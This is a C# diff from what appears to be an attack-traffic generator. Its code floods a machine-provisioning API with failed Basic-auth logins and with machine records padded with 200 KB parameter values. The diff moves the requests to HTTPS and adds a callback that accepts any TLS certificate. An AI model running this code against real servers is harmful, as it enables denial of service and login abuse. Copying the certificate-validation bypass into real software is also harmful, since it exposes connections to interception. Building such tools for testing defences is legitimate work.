@@ -32,7 +32,7 @@ internal static class HttpAttacks
         using var http = Client(target, number);
         for (var i = 0; ; i++)
         {
-            using var request = new HttpRequestMessage(HttpMethod.Get, $"http://{target.Server}:{ApiPort}/api/v3/machines");
+            using var request = new HttpRequestMessage(HttpMethod.Get, $"https://{target.Server}:{ApiPort}/api/v3/machines");
             request.Headers.Authorization = new AuthenticationHeaderValue("Basic",
                 Convert.ToBase64String(Encoding.UTF8.GetBytes($"{(i % 2 == 0 ? "rocketskates" : $"nobody-{number}")}:wrong-{i}")));
             using var answer = await http.SendAsync(request, cancellation);
@@ -77,7 +77,7 @@ internal static class HttpAttacks
                 "Params":{"hardware/x":"{{{new string('x', 200 << 10)}}}"}}
                 """;
             using var content = new StringContent(body, Encoding.UTF8, "application/json");
-            using var made = await http.PostAsync($"http://{target.Server}:{ApiPort}/api/v3/machines", content, cancellation);
+            using var made = await http.PostAsync($"https://{target.Server}:{ApiPort}/api/v3/machines", content, cancellation);
             target.Count();
             if (!made.IsSuccessStatusCode) continue;
             var uuid = JsonNode.Parse(await made.Content.ReadAsStringAsync(cancellation))!["Uuid"];
@@ -85,7 +85,8 @@ internal static class HttpAttacks
             {
                 var patch = $$"""[{"op":"add","path":"/Params/hardware~1x","value":"{{n}}{{new string('y', 200 << 10)}}"}]""";
                 using var facts = new StringContent(patch, Encoding.UTF8, "application/json");
-                using var written = await http.PatchAsync($"http://{target.Server}:{ApiPort}/api/v3/machines/{uuid}", facts, cancellation);
+                using var written = await http.PatchAsync($"https://{target.Server}:{ApiPort}/api/v3/machines/{uuid}", facts,
+                    cancellation);
                 target.Count();
             }
         }
@@ -110,5 +111,9 @@ internal static class HttpAttacks
         }));
 
     private static HttpClient Client(AttackTarget target, int number)
-        => new(FromAddress.Handler(target.Own(number))) { Timeout = TimeSpan.FromSeconds(60) };
+    {
+        var handler = FromAddress.Handler(target.Own(number));
+        handler.SslOptions.RemoteCertificateValidationCallback = (_, shown, _, _) => shown is not null;
+        return new HttpClient(handler) { Timeout = TimeSpan.FromSeconds(60) };
+    }
 }
